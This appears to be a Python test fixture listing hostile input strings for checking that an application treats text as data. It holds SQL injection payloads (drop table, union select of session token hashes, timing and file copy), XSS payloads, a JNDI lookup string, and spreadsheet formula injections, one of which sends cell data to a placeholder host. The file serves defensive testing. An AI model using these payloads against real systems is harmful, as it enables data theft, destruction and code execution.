"""Texts that would do harm if anything took them for code: for every field that takes text, names in imported files included."""

SQL = (
    "' or 1=1 --", "' or '1'='1", "'; drop table published.sales_daily; --", "') union select token_hash from access.sessions --",
    "Germany' and pg_sleep(5) --", "Germany'||pg_sleep(5)||'", "{Germany,France}", "%(run)s", ":run", ":markets", "\\'; select 1",
    "1; copy facts.orders to '/tmp/x'", "$$; select current_user $$", "NULL", "null::text[]", "1/0", "0x27", "%27 or 1=1",
    "' union all select null,null,null --", "admin'--", "\" or \"\"=\"", "'; set role basketry_owner; --", "'; reset all; --",
    "' and (select count(*) from access.people)>0 --", "*/ or 1=1 /*", "' or exists(select 1) --", "a'; commit; --", "E'\\x27'", "U&'\\0027'",
    "'::regclass", "now()", "current_setting('basketry.token')", "${jndi:ldap://x}", "' like '%", "_%", "'; notify x; --", "' order by 99 --",
    "' returning *; --", "chr(39)", "unnest(array[1])",
)  # fmt: skip
SCRIPTS = (
    "<script>window.ran=1</script>", "<img src=x onerror=window.ran=1>", "<svg onload=window.ran=1>", "\"><svg/onload=window.ran=1>",
    "javascript:window.ran=1", "<a href='javascript:window.ran=1'>x</a>", "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "<body onload=window.ran=1>", "{{constructor.constructor('window.ran=1')()}}", "${window.ran=1}", "'-window.ran=1-'",
    "\\u003cscript\\u003ewindow.ran=1", "<math><mtext></math><img src onerror=window.ran=1>", "</title><script>window.ran=1</script>",
    "</script><script>window.ran=1</script>", "<style>@import'//x.test'</style>", "<link rel=stylesheet href=//x.test>",
    "<input autofocus onfocus=window.ran=1>", "<details open ontoggle=window.ran=1>", "<object data=javascript:window.ran=1>",
    "<b onmouseover=window.ran=1>x</b>", "data:text/html,<script>window.ran=1</script>", "<svg><animate onbegin=window.ran=1 attributeName=x>",
    "<form action=javascript:window.ran=1><button>", "<meta http-equiv=refresh content=0;url=//x.test>", "<base href=//x.test>",
    "<video><source onerror=window.ran=1>", "`${window.ran=1}`", "%3Cscript%3Ewindow.ran=1%3C/script%3E", "<marquee onstart=window.ran=1>",
)  # fmt: skip
# What a spreadsheet would compute, or take for the end of a cell and then compute.
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.test?d=\"&A1,\"x\")",
    "=IMPORTXML(\"http://x.test\",\"//a\")", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u200b\ufeff=1+1", "|calc", "%0A=1+1", "＝1+1", "{=1+1}", "mug;=1+1",
)  # fmt: skip
